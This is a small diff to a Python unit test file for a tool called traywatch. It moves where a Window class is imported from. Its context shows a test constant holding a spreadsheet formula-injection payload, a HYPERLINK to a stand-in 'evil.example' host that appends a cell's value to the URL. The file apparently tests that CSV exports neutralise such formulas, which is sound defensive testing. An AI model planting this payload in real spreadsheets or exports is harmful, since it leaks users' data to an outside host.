@@ -14,8 +14,8 @@ import pytest
 from tests.unit.history.synthetic import T0, Driver
 from traywatch.core.history import HistoryStore, HistoryView, Recorder, load_view
 from traywatch.core.history.export import incidents_csv, neutralise, report_csv, view_json
+from traywatch.core.history.period import Window
 from traywatch.core.history.report import render_html
-from traywatch.core.history.window import Window
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
